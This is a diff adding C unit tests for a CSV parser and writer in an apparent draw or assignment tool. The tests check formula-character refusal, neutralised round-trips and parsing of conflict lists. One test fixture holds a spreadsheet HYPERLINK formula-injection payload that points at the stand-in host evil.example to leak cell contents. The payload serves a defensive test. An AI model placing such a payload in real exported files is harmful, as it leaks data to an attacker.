@@ -14,6 +14,7 @@
 #include <string.h>
 
 #include "domain/draw.h"
+#include "core/csv_write.h"
 
 static const char SEED_SEQ[] = "000102030405060708090a0b0c0d0e0f101112131415161718191a1b1c1d1e1f";
 
@@ -210,6 +211,12 @@ static void test_csv_refusals(void **state)
     char big[200];
     snprintf(big, sizeof big, "key\n%065d\n", 1);
     expect_parse(big, DRAW_ERR_BAD_KEY, 2);
+    /* a key never starts like a spreadsheet formula, so the CSV writer's
+     * neutralising never changes a hashed key */
+    expect_parse("key\nA\n=1+1\n", DRAW_ERR_BAD_KEY, 3);
+    expect_parse("key\n+1\n", DRAW_ERR_BAD_KEY, 2);
+    expect_parse("key\n-1\n", DRAW_ERR_BAD_KEY, 2);
+    expect_parse("key\n@A\n", DRAW_ERR_BAD_KEY, 2);
     /* accepted: BOM, CRLF, quotes with commas and doubled quotes, blank lines */
     struct draw_pool p;
     parse("\xEF\xBB\xBFkey,name\r\n\"a,\"\"b\"\"\",x\r\n\r\nc,\"y\nz\"\n\n", &p);
@@ -217,6 +224,69 @@ static void test_csv_refusals(void **state)
     assert_string_equal(p.keys[0], "a,\"b\"");
     assert_string_equal(p.keys[1], "c");
     draw_pool_free(&p);
+}
+
+/* The pool file the server writes for hostile names (THE CSV writer: quoted,
+ * neutralised, CRLF) parses back to the same keys and the same hash. */
+static void test_csv_written_pool(void **state)
+{
+    (void)state;
+    static const char *const rows[][2] = {
+        {"91360200MA35XXXXX1", "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"x\")"},
+        {"91360200MA35XXXXX2", "逗号,引号\"和\r\n换行"},
+        {"K,\"1\"", "-2+3"},
+    };
+    struct buf b;
+    buf_init(&b, 0);
+    struct csv_out c;
+    csv_out_init(&c, &b);
+    csv_text(&c, "key");
+    csv_text(&c, "name");
+    csv_end_row(&c);
+    struct draw_pool want;
+    draw_pool_init(&want);
+    for (size_t i = 0; i < 3; i++) {
+        csv_text(&c, rows[i][0]);
+        csv_text(&c, rows[i][1]);
+        csv_end_row(&c);
+        assert_int_equal(draw_pool_add(&want, rows[i][0], strlen(rows[i][0])), DRAW_OK);
+    }
+    assert_int_equal(draw_pool_sort(&want, NULL), DRAW_OK);
+    struct draw_pool got;
+    draw_pool_init(&got);
+    size_t line = 0;
+    assert_int_equal(draw_pool_parse_csv(b.data, b.len, &got, &line), DRAW_OK);
+    assert_int_equal(got.n, 3);
+    uint8_t h1[DRAW_HASH_BYTES], h2[DRAW_HASH_BYTES];
+    draw_pool_hash(&want, h1);
+    draw_pool_hash(&got, h2);
+    assert_memory_equal(h1, h2, sizeof h1);
+    draw_pool_free(&want);
+    draw_pool_free(&got);
+    buf_free(&b);
+}
+
+static void test_conflicts_csv(void **state)
+{
+    (void)state;
+    struct draw_pool p;
+    draw_pool_init(&p);
+    size_t line = 0;
+    const char *ok = "target,inspector\r\nT2,I1\r\n\"T,1\",\"I\"\"2\"\r\n\r\nT1,I9\n";
+    assert_int_equal(draw_conflicts_parse_csv(ok, strlen(ok), &p, &line), DRAW_OK);
+    assert_int_equal(p.n, 3);
+    assert_string_equal(p.keys[0], "T,1\x1fI\"2");
+    assert_string_equal(p.keys[1], "T1\x1fI9");
+    assert_string_equal(p.keys[2], "T2\x1fI1");
+    draw_pool_free(&p);
+    const char *bad[] = {"target,inspector\nT1\n", "target,inspector\nT1,I1,x\n",
+                         "target,inspector\nT1,\"I1\n", "target,inspector\nT1,=I1\n"};
+    for (size_t i = 0; i < 4; i++) {
+        draw_pool_init(&p);
+        assert_int_not_equal(draw_conflicts_parse_csv(bad[i], strlen(bad[i]), &p, &line), DRAW_OK);
+        assert_int_equal(line, 2);
+        draw_pool_free(&p);
+    }
 }
 
 static bool conflict_ab(void *ctx, const char *target, const char *inspector)
@@ -278,6 +348,8 @@ int main(void)
         cmocka_unit_test(test_below_rejection),
         cmocka_unit_test(test_count_too_large),
         cmocka_unit_test(test_csv_refusals),
+        cmocka_unit_test(test_csv_written_pool),
+        cmocka_unit_test(test_conflicts_csv),
         cmocka_unit_test(test_teams),
         cmocka_unit_test(test_hex),
     };
